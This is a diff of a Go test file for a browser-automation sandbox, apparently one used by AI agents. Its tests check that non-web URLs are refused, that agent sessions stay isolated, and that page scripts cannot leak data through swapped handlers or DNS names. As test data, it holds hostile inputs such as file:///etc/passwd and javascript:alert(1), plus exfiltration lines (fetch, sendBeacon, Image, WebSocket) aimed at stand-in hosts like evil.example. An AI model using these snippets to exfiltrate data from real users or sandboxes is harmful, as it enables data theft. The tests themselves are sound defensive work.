@@ -2,13 +2,16 @@ package act_test
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"net/http"
 	"os"
 	"path/filepath"
 	"regexp"
 	"runtime"
+	"slices"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -65,10 +68,29 @@ func TestDocumentsAreJudged(t *testing.T) {
 	if _, err := s.do(act.Step{Do: act.DoOpen, URL: s.url("evil", "/refused")}); act.ReasonOf(err) != act.ReasonPolicy || !strings.Contains(err.Error(), "the policy refuses that") {
 		t.Errorf("open of what is refused: %v", err)
 	}
-	for _, u := range []string{"file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "view-source:http://site.example", "chrome://version", "//site.example", "http://a:b@site.example", "http://site.example/ x", "blob:http://site.example/1", "ftp://site.example", "http:///x", strings.Repeat("http://site.example/", 2000)} {
+}
+
+// TestAddressesThatAreNotOpened: what is no address of the web is refused before anybody is
+// asked about it, and before Chrome sees it (BR-A32).
+func TestAddressesThatAreNotOpened(t *testing.T) {
+	s := open(t)
+	s.page("/", "<p>here")
+	s.goTo(s.url("site", "/"))
+	s.forget()
+	for _, u := range []string{
+		"file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "view-source:http://site.example", "chrome://version", "about:blank", "devtools://x", "filesystem:http://site.example/temporary/x", "chrome-extension://x/y",
+		"//site.example", "/path", "site.example", "http:site.example", "http:/site.example", "http:///x", "http://", "http://a:b@site.example", "http://site.example/ x", " http://site.example/", "http://site.example/\n", "http://site.example/\x00",
+		"blob:http://site.example/1", "ftp://site.example", "ws://site.example/", "mailto:a@site.example", "HTTP+X://site.example", strings.Repeat("http://site.example/", 2000), "http://site.example/" + strings.Repeat("a", 64<<10), "http://site.example:99999/", "http://[::1/", "",
+	} {
 		if _, err := s.do(act.Step{Do: act.DoOpen, URL: u}); act.ReasonOf(err) != act.ReasonArgument {
-			t.Errorf("open %.60s: %v", u, err)
+			t.Errorf("open %.60q: %v", u, err)
 		}
+	}
+	if n := s.judged(""); n != 0 {
+		t.Errorf("somebody was asked %d times: %v", n, s.asks)
+	}
+	if l := s.look(act.LookRequest{}); !strings.Contains(l, "here") {
+		t.Errorf("the page was left:\n%s", l)
 	}
 }
 
@@ -408,5 +430,152 @@ func TestSeatsAreApart(t *testing.T) {
 	}
 	if _, err := first.Look(s.ctx(), act.LookRequest{}); act.ReasonOf(err) != act.ReasonClosed {
 		t.Errorf("a look after the end: %v", err)
+	}
+}
+
+// TestOthersKnowNothing: what one seat has, another one cannot name: no tab, download, part of a
+// look, control, dialog or point of a picture (BR-A39).
+func TestOthersKnowNothing(t *testing.T) {
+	s := open(t)
+	s.mux.HandleFunc("/file", func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Disposition", `attachment; filename="theirs"`)
+		_, _ = w.Write([]byte("theirs"))
+	})
+	s.page("/", `<title>theirs</title><button onclick="window.open('/?2')">Window</button><a href="/file">File</a><button onclick="confirm('theirs?')">Ask</button>`+strings.Repeat("<p>theirs", 300))
+	l := s.goTo(s.url("site", "/"))
+	button := s.ref(l, `button "Window"`)
+	s.must(act.Step{Do: act.DoClick, Ref: s.ref(l, `link "File"`)})
+	s.until(act.LookRequest{At: act.AtDownloads}, "ready")
+	s.look(act.LookRequest{At: act.AtPicture})
+	s.must(act.Step{Do: act.DoClick, Ref: button})
+	if s.window() != "t2" {
+		t.Fatal("the other seat has no second tab, so this test sees nothing")
+	}
+	s.must(act.Step{Do: act.DoSwitch, Text: "t1"})
+	s.must(act.Step{Do: act.DoClick, Ref: s.ref(l, `button "Ask"`)})
+	theirs, err := s.seats.Open(t.Context(), s.grant("u"), act.Options{Judge: func(context.Context, act.Navigation) error { return nil }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, q := range map[string]act.LookRequest{"tab": {Tab: "t2"}, "tabs of it": {At: act.AtTabs, Tab: "t2"}, "offset": {Offset: 500}, "element": {In: button}} {
+		if k, err := theirs.Look(s.ctx(), q); act.ReasonOf(err) != act.ReasonUnknown && act.ReasonOf(err) != act.ReasonStale {
+			t.Errorf("%s: %+v, %v", name, k, err)
+		}
+	}
+	for _, q := range []act.LookRequest{{}, {At: act.AtTabs}, {At: act.AtConsole}, {At: act.AtNetwork}, {At: act.AtDownloads}} {
+		if k, err := theirs.Look(s.ctx(), q); err != nil || strings.Contains(k.Text, "theirs") || strings.Contains(k.Text, "site.example") || k.Dialog != nil {
+			t.Errorf("a look at %q: %+v, %v", q.At, k, err)
+		}
+	}
+	for name, step := range map[string]act.Step{
+		"tab": {Do: act.DoSwitch, Text: "t2"}, "close": {Do: act.DoClose, Text: "t2"}, "download": {Do: act.DoSave, Download: "d1", Path: "x"}, "control": {Do: act.DoClick, Ref: button}, "dialog": {Do: act.DoDialog, Accept: new(true)}, "point": {Do: act.DoClick, XY: &act.Point{X: 20, Y: 20}},
+	} {
+		p, err := theirs.Prepare(s.ctx(), "", step)
+		if err == nil {
+			_, err = theirs.Do(s.ctx(), p, step)
+		}
+		if r := act.ReasonOf(err); r != act.ReasonUnknown && r != act.ReasonStale {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+	if l := s.look(act.LookRequest{At: act.AtTabs}); !strings.Contains(l, "\nt2 ") || !strings.Contains(l, "a dialog waits") {
+		t.Errorf("afterwards the first seat has\n%s", l)
+	}
+	// A step that was prepared in one seat is not done by another.
+	s.must(act.Step{Do: act.DoDialog, Accept: new(false)})
+	step := act.Step{Do: act.DoClick, Ref: button}
+	p, err := s.seat.Prepare(s.ctx(), "", step)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := theirs.Do(s.ctx(), p, step); act.ReasonOf(err) != act.ReasonArgument {
+		t.Errorf("a step of another seat: %v", err)
+	}
+}
+
+// TestHandlersThatAreSwapped: what a button does cannot be known from the button, so one that
+// looks as before is pressed. What it has the page do then is judged where it leaves: documents by
+// the policy, and everything by the door (BR-A4).
+func TestHandlersThatAreSwapped(t *testing.T) {
+	s := newStage(t)
+	var asked atomic.Int32
+	grant := s.grantOf("t", strings.ReplaceAll(`net: {mode: proxy, allow: [{host: site.example, ports: [PORT], methods: [GET, HEAD]}], tls: intercept, allow_private: ["site.example:PORT"]}`, "PORT", fmt.Sprint(s.port)))
+	seat, err := s.seats.Open(t.Context(), grant, act.Options{Eval: true, Judge: func(_ context.Context, n act.Navigation) error {
+		if strings.Contains(n.URL, "/hit") {
+			asked.Add(1)
+			return errors.New("the policy refuses that")
+		}
+		return nil
+	}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.seat = seat
+	word := make(chan string, 1)
+	s.answer("/word", word)
+	for i, way := range []struct {
+		js       string
+		document bool // the policy is asked, and else the door refuses alone
+	}{
+		{`location = "http://evil.example:PORT/hit"`, true},
+		{`location = "/hit"`, true},
+		{`open("/hit", "", "noopener")`, true},
+		{`const f = document.createElement("form"); f.method = "post"; f.action = "/hit"; document.body.append(f); f.submit()`, true},
+		{`fetch("http://evil.example:PORT/hit", {mode: "no-cors"})`, false},
+		{`navigator.sendBeacon("http://evil.example:PORT/hit", "d")`, false},
+		{`fetch("/hit", {method: "POST", body: "d"})`, false},
+		{`new Image().src = "http://evil.example:PORT/hit"`, false},
+		{`new WebSocket("ws://site.example:PORT/hit")`, false},
+	} {
+		asked.Store(0)
+		s.page(fmt.Sprintf("/way/%d", i), `<!doctype html><title>none</title><button>Add</button><script>const b = document.querySelector("button"); b.onclick = () => { document.title = "added" };
+const ask = setInterval(async () => { if (document.title === "none" && await (await fetch("/word")).text()) { clearInterval(ask); b.onclick = () => { document.title = "other"; `+way.js+` }; document.title = "swapped" } }, 20)</script>`)
+		step := act.Step{Do: act.DoClick, Ref: s.ref(s.goTo(s.url("site", fmt.Sprintf("/way/%d", i))), `button "Add"`)}
+		p, err := s.seat.Prepare(s.ctx(), "", step)
+		if err != nil {
+			t.Fatal(err)
+		}
+		word <- "go"
+		s.wait(func() bool { return s.eval("document.title") == `"swapped"` })
+		if _, err := s.seat.Do(s.ctx(), p, step); err != nil {
+			t.Errorf("%s: %v (%v)", way.js, err, cause(err))
+		}
+		if got := s.eval("document.title"); got != `"other"` {
+			t.Errorf("%s: the page says %s", way.js, got)
+		}
+		if way.document {
+			s.wait(func() bool { return asked.Load() > 0 })
+		} else { // what it has sent by now comes before this
+			s.must(act.Step{Do: act.DoWait, MS: 300})
+		}
+	}
+	if n := s.heard("/hit"); n != 0 {
+		t.Errorf("the server heard %d requests: %v", n, slices.DeleteFunc(s.hits, func(h string) bool { return !strings.Contains(h, "/hit") }))
+	}
+}
+
+// TestNoWordsInNames: what an agent writes into the name of a host leaves by no question for that
+// name (BR-A34).
+func TestNoWordsInNames(t *testing.T) {
+	s := open(t)
+	s.page("/", `<!doctype html><title>none</title><a href="http://the-words.evil-names.example/">Link</a><button onclick="fetch('http://the-words.evil-names.example/').catch(() => { document.title = 'refused' })">Fetch</button><link rel=dns-prefetch href="http://the-words.evil-names.example/"><link rel=preconnect href="http://the-words.evil-names.example/">`)
+	s.goTo(s.url("site", "/"))
+	if _, err := s.do(act.Step{Do: act.DoOpen, URL: "http://the-words.evil-names.example/"}); act.ReasonOf(err) != act.ReasonPolicy && act.ReasonOf(err) != act.ReasonFailed {
+		t.Errorf("open: %v", err)
+	}
+	l := s.goTo(s.url("site", "/"))
+	s.must(act.Step{Do: act.DoClick, Ref: s.ref(l, `button "Fetch"`)})
+	s.wait(func() bool { return s.eval("document.title") == `"refused"` })
+	_, _ = s.do(act.Step{Do: act.DoClick, Ref: s.ref(l, `link "Link"`)})
+	s.must(act.Step{Do: act.DoWait, MS: 300})
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if !slices.Contains(s.names, "site.example") {
+		t.Errorf("the names that were asked for are %q, so this test sees nothing", s.names)
+	}
+	for _, n := range s.names {
+		if strings.Contains(n, "the-words") {
+			t.Errorf("the name %s was asked for", n)
+		}
 	}
 }
